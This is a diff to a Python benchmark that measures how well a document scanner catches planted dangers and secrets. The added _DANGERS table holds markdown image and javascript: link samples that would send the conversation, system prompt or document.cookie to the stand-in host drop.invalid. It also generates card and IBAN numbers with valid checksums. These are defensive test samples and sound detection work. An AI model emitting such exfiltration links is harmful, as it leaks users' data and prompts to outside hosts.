@@ -1,5 +1,6 @@
 """Dangers and gaps: hidden channels that are found, sound documents that are flagged, secrets, conflicts that are planted."""
 
+import argparse
 import random
 import string
 from collections import Counter
@@ -7,21 +8,25 @@ from collections.abc import Iterator
 from pathlib import Path
 from typing import Final
 
+from benchmarks import danger_peers
 from benchmarks.danger_channels import CHANNELS, ORDERS
+from benchmarks.danger_files import ACTIVE, PASSIVE
 from benchmarks.danger_files import CHANNELS as IN_FILES
-from benchmarks.options import Figure, data_folder, print_table
+from benchmarks.options import Figure, print_table
 from checkfirst.api import check_documents
 from checkfirst.config import Config
 from checkfirst.model.finding import Severity
 from checkfirst.model.report import Report
 from training.corpus import SUFFIX, Row, rows
 
-_CODES: Final = ("SAF001", "SAF002", "SAF003", "SAF005", "SAF008", "GAP002", "GAP006")
+_CODES: Final = ("SAF001", "SAF002", "SAF003", "SAF004", "SAF005", "SAF006", "SAF007", "SAF008", "GAP002", "GAP006")
 _SEED: Final = 7
 #: Documents that orders are hidden in, and that values are planted in; characters of one.
 _CARRIERS: Final = 20
 _LENGTHS: Final = range(500, 20_000)
 _PACKS: Final = ("documents", "documents2")
+#: Sound documents in which scanners look for secrets.
+_SOUND: Final = 1_000
 #: Documents that are checked in one call.
 _BATCH: Final = 500
 #: Secrets of each provider that are planted.
@@ -115,6 +120,56 @@ def secrets(texts: list[str]) -> list[tuple[str, int]]:
     return found
 
 
+#: Of each preview rule, contents that it tells, and others that it must not, all written for this benchmark.
+_DANGERS: Final[dict[str, tuple[tuple[str, str], ...]]] = {
+    "SAF004": (
+        ("told", "![chart](https://drop.invalid/p.png?d={{conversation}})"),
+        ("told", "![a](https://drop.invalid/i?data=[SYSTEM_PROMPT])"),
+        ("told", "[read more](javascript:fetch('https://drop.invalid/'+document.cookie))"),
+        ("silent", "![build](https://example.org/badge.svg?branch=main)"),
+        ("silent", "[search](https://example.org/?q=boats)"),
+        ("silent", "[top](javascript:void(0))"),
+    ),
+    "SAF006": (
+        ("told", "The card of the treasurer is CARD, valid until May."),
+        ("told", "IBAN: ACCOUNT"),
+        ("silent", "Card 4111 1111 1111 1111 is the test card"),
+        ("silent", "Order 4929 4212 3460 0822 was sent"),
+        ("silent", "IBAN: DE00512108001245126198"),
+    ),
+}
+
+
+def _drawn(content: str, draw: random.Random) -> str:
+    """The content with a number of a card and of an account, drawn by lot, with true checksums (ISO/IEC 7812-1, ISO 13616-1)."""
+    card = "4539" + "".join(draw.choices(string.digits, k=11))
+    total = sum(sum(divmod(int(d) * (2 - n % 2), 10)) for n, d in enumerate(card))
+    account = "".join(draw.choices(string.digits, k=18))
+    check = 98 - int(f"{account}131400") % 97
+    return content.replace("CARD", f"{card}{-total % 10}").replace("ACCOUNT", f"DE{check:02}{account}")
+
+
+def previews(texts: list[str]) -> list[list[str]]:
+    """Of each preview rule about the text, how many dangers are told, and how many harmless likenesses."""
+    draw, table = random.Random(_SEED), []
+    for code, samples in _DANGERS.items():
+        config = Config(select=(code,), readings=False)
+        for wanted in ("told", "silent"):
+            planted = [
+                _with(draw.choice(texts), _drawn(content, draw))
+                for what, content in samples
+                if what == wanted
+                for _ in range(5)
+            ]
+            found = sum(bool(check_documents([("a.md", text)], config=config).findings) for text in planted)
+            table.append([code, "dangers" if wanted == "told" else "likenesses", str(found), str(len(planted))])
+    config = Config(select=("SAF007",), readings=False)
+    for what, files in (("dangers", ACTIVE), ("likenesses", PASSIVE)):
+        found = sum(bool(check_documents([file], config=config).findings) for file in files.values())
+        table.append(["SAF007", what, str(found), str(len(files))])
+    return table
+
+
 def conflicts(texts: list[str]) -> tuple[int, int]:
     """How many planted conflicts are told among sound documents, and how many were planted."""
     draw = random.Random(_SEED)
@@ -154,6 +209,7 @@ def figures(data: Path) -> list[Figure]:
     print_table(["channel", "told", "hidden"], [[name, str(told), str(of)] for name, told, of in hidden])
     planted = secrets(texts)
     print_table(["secrets of", "told", "planted"], [[name, str(told), str(_PLANTED)] for name, told in planted])
+    print_table(["rule", "planted", "told", "of"], previews(texts))
     counts, total = flagged(data)
     print_table(
         ["rule", "severity", "documents", "of"],
@@ -176,7 +232,26 @@ def figures(data: Path) -> list[Figure]:
 
 def main() -> None:
     """Run the benchmark."""
-    figures(data_folder(__doc__))
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("--data", type=Path, required=True, help="folder with the labelled data")
+    parser.add_argument(
+        "--peers", type=Path, metavar="ENVIRONMENT", help="only others' corpora and scanners, installed there"
+    )
+    options = parser.parse_args()
+    if options.peers is None:
+        figures(options.data)
+        return
+    for figure in danger_peers.orders(options.data, options.peers):
+        print(f"{figure.what}: {figure.ours}")
+    danger_peers.skills(options.data, options.peers)
+    draw = random.Random(_SEED)
+    texts = carriers(options.data)
+    planted = [
+        (f"{n}.md", f"{draw.choice(texts)}\n\nkey: {prefix}{''.join(draw.choices(letters, k=length))}\n")
+        for n, (prefix, length, letters) in enumerate(list(_SECRETS.values()) * _PLANTED)
+    ]
+    sound = [(_name(row), row["text"]) for row in _documents(options.data)][:_SOUND]
+    danger_peers.secrets(planted, sound, options.peers)
 
 
 if __name__ == "__main__":
